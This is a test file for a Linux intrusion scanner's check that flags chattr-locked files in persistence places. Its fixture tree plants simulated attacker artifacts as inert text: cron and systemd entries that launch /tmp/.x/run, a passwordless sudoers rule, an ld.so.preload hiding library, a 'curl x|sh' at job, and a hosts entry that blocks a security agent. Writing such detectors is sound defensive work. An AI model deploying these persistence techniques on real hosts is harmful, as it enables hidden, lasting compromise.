/**
 * The immutable-files check on an ext4-backed tree (flags set with chattr, read back
 * through lsattr by the directory source): locked and append-only files in every
 * watched place (cron, units, generators, rc.local, at jobs, profile.d, udev rules,
 * modprobe.d, sshd_config, /etc/hosts, sudoers, account files, the preload file and
 * the library it names, authorized_keys and ~/.ssh of a home outside /home, system
 * commands), locked directories at medium, symlinks judged by their target and reported
 * once, and locked files outside the watched places left alone (no full-disk walk).
 * The same tree without flags, the planted clean tree and the debootstrapped Debian
 * root give nothing.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { immutableFilesCheck } from '../../src/checks/immutable-files.js';
import type { Finding } from '../../src/model/finding.js';
import { scanDirectory } from '../helpers/scan-dir.js';
import { makeScratchDir, plantTree, removeScratchDir } from '../helpers/images.js';
import { fixture } from '../helpers/fixtures.js';

const run = promisify(execFile);
const DEBIAN_ROOT = fixture('debianRoot');

async function put(root: string, rel: string, text: string): Promise<void> {
  const p = path.join(root, rel);
  await mkdir(path.dirname(p), { recursive: true });
  await writeFile(p, text);
}

const summary = (fs: Finding[]) => fs.map((f) => `${f.severity} ${f.rule} ${f.path} ${f.evidence}`).sort();

/** The tree, and what the attacker locked: +i unless the entry says +a. */
async function buildTree(root: string): Promise<void> {
  await put(root, 'etc/passwd', 'root:x:0:0:root:/root:/bin/bash\napp:x:1001:1001::/srv/app:/bin/bash\n');
  await put(root, 'etc/shadow', 'root:*:19700:0:99999:7:::\n');
  await put(root, 'etc/crontab', 'SHELL=/bin/sh\n');
  await put(root, 'etc/cron.d/job', '* * * * * root /tmp/.x/run\n');
  await put(root, 'etc/cron.daily/logrotate', '#!/bin/sh\n');
  await put(root, 'var/spool/cron/crontabs/root', '@reboot /tmp/.x/run\n');
  await put(root, 'etc/systemd/system/evil.service', '[Service]\nExecStart=/tmp/.x/run\n');
  await mkdir(path.join(root, 'etc/systemd/system/multi-user.target.wants'), { recursive: true });
  await symlink('../evil.service', path.join(root, 'etc/systemd/system/multi-user.target.wants/evil.service'));
  await put(root, 'lib/systemd/system/ssh.service', '[Service]\nExecStart=/usr/sbin/sshd -D\n');
  await put(root, 'etc/rc.local', '#!/bin/sh\nexit 0\n');
  await put(root, 'etc/sudoers.d/evil', 'app ALL=(ALL) NOPASSWD: ALL\n');
  await put(root, 'etc/ld.so.preload', '/usr/local/lib/libhide.so\n');
  await put(root, 'usr/local/lib/libhide.so', '\x7fELF');
  await put(root, 'srv/app/.ssh/authorized_keys', 'ssh-ed25519 AAAA x\n');
  await put(root, 'root/.ssh/authorized_keys', 'ssh-ed25519 AAAA x\n');
  await put(root, 'usr/bin/ps', '#!/bin/sh\n');
  await put(root, 'usr/bin/top', '\x7fELF');
  await put(root, 'opt/x/hidden', '\x7fELF');
  await symlink('/opt/x/hidden', path.join(root, 'usr/bin/sshd-helper'));
  await put(root, 'opt/data/locked', 'not a persistence place\n');
  await put(root, 'var/lib/dpkg/info/procps.list', '/usr/bin/ps\n/usr/bin/top\n');
  await put(root, 'etc/profile.d/x.sh', '(nohup /tmp/.x/run &)\n');
  await put(root, 'etc/hosts', '127.0.0.1 update.aegis.aliyun.com\n');
  await put(root, 'etc/udev/rules.d/99-x.rules', 'RUN+="/tmp/.x/run"\n');
  await put(root, 'etc/modprobe.d/x.conf', 'install dummy /tmp/.x/run\n');
  await put(root, 'etc/ssh/sshd_config', 'AuthorizedKeysFile /tmp/.k\n');
  await put(root, 'var/spool/cron/atjobs/a0000101', 'curl x|sh\n');
  await put(root, 'etc/systemd/system-generators/g', '#!/bin/sh\n');
  await put(root, 'var/lib/cloud/scripts/per-boot/x', '#!/bin/sh\n');
}

const LOCKED = [
  'etc/crontab',
  'etc/cron.d',
  'etc/cron.d/job +a',
  'var/spool/cron/crontabs/root',
  'etc/systemd/system/evil.service',
  'etc/rc.local',
  'etc/sudoers.d/evil',
  'etc/ld.so.preload',
  'usr/local/lib/libhide.so',
  'srv/app/.ssh',
  'srv/app/.ssh/authorized_keys',
  'root/.ssh/authorized_keys +a',
  'usr/bin/ps',
  'opt/x/hidden',
  'opt/data/locked',
  'etc/profile.d/x.sh',
  'etc/hosts',
  'etc/udev/rules.d/99-x.rules',
  'etc/modprobe.d/x.conf',
  'etc/ssh/sshd_config',
  'var/spool/cron/atjobs/a0000101',
  'etc/systemd/system-generators/g',
  'var/lib/cloud/scripts/per-boot/x',
  // Last: nothing can be written below it once it is locked.
  'etc/passwd',
];

describe('immutable-files check', () => {
  let scratch: string;
  let locked: string;
  let unlocked: string;

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-immutable-');
    locked = path.join(scratch, 'locked');
    unlocked = path.join(scratch, 'unlocked');
    await buildTree(locked);
    await buildTree(unlocked);
    for (const entry of LOCKED) {
      const [rel, flag] = entry.split(' ');
      await run('chattr', [flag ?? '+i', path.join(locked, rel!)]);
    }
  });
  afterAll(async () => {
    // removeScratchDir clears the flags (chattr -R -ia) before it deletes.
    if (scratch) await removeScratchDir(scratch);
  });

  it('reports every locked entry in the watched places, and nothing else', async () => {
    const result = await scanDirectory(locked, [immutableFilesCheck]);
    expect(result.errors).toEqual([]);
    const i = 'immutable (chattr +i)';
    const a = 'append-only (chattr +a)';
    expect(summary(result.findings)).toEqual(
      [
        `high immutable.locked-file /etc/crontab ${i}`,
        `medium immutable.locked-directory /etc/cron.d ${i}`,
        `high immutable.locked-file /etc/cron.d/job ${a}`,
        `high immutable.locked-file /var/spool/cron/crontabs/root ${i}`,
        `high immutable.locked-file /etc/systemd/system/evil.service ${i}`,
        `high immutable.locked-file /etc/rc.local ${i}`,
        `high immutable.locked-file /etc/sudoers.d/evil ${i}`,
        `high immutable.locked-file /etc/ld.so.preload ${i}`,
        `high immutable.locked-file /usr/local/lib/libhide.so ${i}`,
        `high immutable.locked-file /etc/passwd ${i}`,
        `medium immutable.locked-directory /srv/app/.ssh ${i}`,
        `high immutable.locked-file /srv/app/.ssh/authorized_keys ${i}`,
        `high immutable.locked-file /root/.ssh/authorized_keys ${a}`,
        `high immutable.locked-file /usr/bin/ps ${i}`,
        `high immutable.locked-file /opt/x/hidden ${i}`,
        `high immutable.locked-file /etc/profile.d/x.sh ${i}`,
        `high immutable.locked-file /etc/hosts ${i}`,
        `high immutable.locked-file /etc/udev/rules.d/99-x.rules ${i}`,
        `high immutable.locked-file /etc/modprobe.d/x.conf ${i}`,
        `high immutable.locked-file /etc/ssh/sshd_config ${i}`,
        `high immutable.locked-file /var/spool/cron/atjobs/a0000101 ${i}`,
        `high immutable.locked-file /etc/systemd/system-generators/g ${i}`,
        `high immutable.locked-file /var/lib/cloud/scripts/per-boot/x ${i}`,
      ].sort(),
    );
  });

  it('names the place and gives the command that unlocks it', async () => {
    const { findings } = await scanDirectory(locked, [immutableFilesCheck]);
    const find = (p: string) => findings.find((f) => f.path === p)!;
    expect(find('/etc/crontab').message).toBe(
      '/etc/crontab (cron configuration) is immutable (chattr +i): it cannot be changed or removed, even by root, until the flag is cleared, which is how miner kits keep their persistence in place',
    );
    expect(find('/etc/crontab').remediation).toMatch(/^chattr -ia \/etc\/crontab\n/);
    expect(find('/etc/crontab').category).toBe('integrity');
    expect(find('/etc/cron.d').message).toContain('directory /etc/cron.d (cron configuration) is immutable');
    expect(find('/etc/cron.d').remediation).toMatch(/^chattr -ia \/etc\/cron\.d\n/);
    expect(find('/usr/local/lib/libhide.so').message).toContain('(library in /etc/ld.so.preload)');
    expect(find('/srv/app/.ssh/authorized_keys').message).toContain('(SSH login keys of app)');
    expect(find('/usr/bin/ps').message).toContain('(system command)');
    expect(find('/usr/bin/ps').remediation).toContain('or restore it from its package: apt-get install --reinstall procps');
    expect(find('/opt/x/hidden').message).toContain('(system command (reached through /usr/bin/sshd-helper))');
    expect(find('/opt/x/hidden').remediation).toMatch(/^chattr -ia \/opt\/x\/hidden\n/);
    expect(find('/etc/systemd/system/evil.service').message).toContain('(systemd unit)');
  });

  it('finds nothing in the same tree without flags, the planted clean tree or a Debian root', async () => {
    const same = await scanDirectory(unlocked, [immutableFilesCheck]);
    expect(same.errors).toEqual([]);
    expect(same.findings).toEqual([]);
    const clean = await plantTree(path.join(scratch, 'clean'), true);
    const planted = await scanDirectory(clean, [immutableFilesCheck]);
    expect(planted.errors).toEqual([]);
    expect(planted.findings).toEqual([]);
    const debian = await scanDirectory(DEBIAN_ROOT, [immutableFilesCheck]);
    expect(debian.errors).toEqual([]);
    expect(debian.findings).toEqual([]);
  });
});
